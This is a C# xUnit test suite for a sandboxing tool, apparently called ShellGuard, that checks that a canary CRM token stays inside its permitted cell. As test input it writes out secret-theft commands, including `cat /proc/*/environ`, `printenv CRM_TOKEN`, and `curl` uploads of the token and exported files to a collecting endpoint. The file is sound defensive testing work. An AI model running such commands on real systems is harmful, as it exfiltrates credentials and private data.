using ShellGuard.System.Tests.Support;
using Xunit;

namespace ShellGuard.System.Tests.Walls;

/// <summary>Secrets of the caller and what a program prints carry tags like databases do.</summary>
public sealed class SecretTests
{
    private const string Token = "canary-token-4711";

    [Theory, BothIdentities]
    public void A_variable_is_in_the_cells_that_name_it_and_nowhere_else(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        Outcome outcome = world.Lobby(
            area,
            """
            echo lobby ${CRM_TOKEN-none} $(env | grep -c 4711) $(cat /proc/*/environ 2> /dev/null | grep -ac 4711)
            sh -c 'echo net ${CRM_TOKEN-none}'
            shellguard run --in crm -- sh -c '[ "$CRM_TOKEN" = canary-token-4711 ]' && echo crm has it
            CRM_TOKEN=other shellguard run --in crm -- sh -c '[ "$CRM_TOKEN" = other ]' && echo or what it is given
            shellguard run --in crm -- printenv CRM_TOKEN > kept
            shellguard run --in crm -- printenv CRM_TOKEN | curl -s -T - $OUT
            curl -s -T kept $OUT
            shellguard run --in crm -- sh -c 'curl -s -d "$CRM_TOKEN" $OUT'
            curl -s -d "${CRM_TOKEN-none}" $OUT
            """,
            more: """

                [[resource]]
                name = "crm token"
                environment = ["CRM_TOKEN"]
                source = ["db:customers"]

                [cell.crm]
                label = ["db:customers"]
                environment = ["CRM_TOKEN"]
                """,
            variables: new Dictionary<string, string> { ["CRM_TOKEN"] = Token });
        Assert.Equal("lobby none 0 0\nnet none\ncrm has it\nor what it is given\nthere\n", outcome.Succeed().Output);
        Assert.DoesNotContain(Token, world.Received, StringComparison.Ordinal);
        Assert.Contains("none", world.Received, StringComparison.Ordinal);
        Assert.Contains("printenv (pid ", area.Shellguard("why", "1"), StringComparison.Ordinal);
    }

    [Theory, BothIdentities]
    public void A_session_in_one_cell_has_its_variables_only(Identity identity)
    {
        using TestArea area = new(identity);
        string policy = area.Write(
            "secrets.toml",
            """
            extends = "default"
            [tags]
            secret = "what only we know"
            [[resource]]
            name = "token"
            environment = ["CRM_TOKEN"]
            source = ["secret"]
            [cell.crm]
            label = ["secret"]
            environment = ["CRM_TOKEN"]
            [cell.other]
            label = ["secret"]
            [cell.plain]
            label = []
            [environment]
            pass = ["CRM_*"]
            """);
        foreach ((string cell, string expected) in new[] { ("crm", Token), ("plain", "none") })
        {
            Assert.Equal(
                $"{expected}\n",
                area.OutsideShell(
                    $"CRM_TOKEN={Token} {NativeBinary.Path} run --policy {policy} --in {cell} -- sh -c 'echo ${{CRM_TOKEN-none}}'")
                    .Succeed().Output);
        }
    }

    [Theory, BothIdentities]
    public void What_a_tagged_program_prints_has_its_tags(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        string tools = Directory.CreateDirectory($"{area.Root}/tools").FullName;
        File.WriteAllText($"{tools}/crm-export", $"#!/bin/sh\necho {Token}\n");
        File.SetUnixFileMode($"{tools}/crm-export", (UnixFileMode)0x1ed);
        Outcome outcome = world.Lobby(
            area,
            $"""
            crm-export | wc -l
            crm-export > exported; wc -l exported
            {tools}/crm-export 2> /dev/null || echo not there
            crm-export | curl -s -T - $OUT
            shellguard run --in net -- {tools}/crm-export 2> /dev/null | curl -s -T - $OUT
            curl -s -T exported $OUT
            curl -s -d harmless $OUT
            """,
            more: $"""

                [[resource]]
                name = "exports"
                paths = ["{tools}/crm-export"]
                source = ["db:customers"]

                [cell.crm]
                label = ["db:customers"]
                read-only = ["{tools}/crm-export"]
                """,
            variables: new Dictionary<string, string> { ["PATH"] = $"/usr/bin:/bin:{tools}" });
        Assert.StartsWith("1\n1 exported\nnot there\n", outcome.Succeed().Output, StringComparison.Ordinal);
        Assert.Contains("harmless", world.Received, StringComparison.Ordinal);
        Assert.DoesNotContain(Token, world.Received, StringComparison.Ordinal);
    }
}
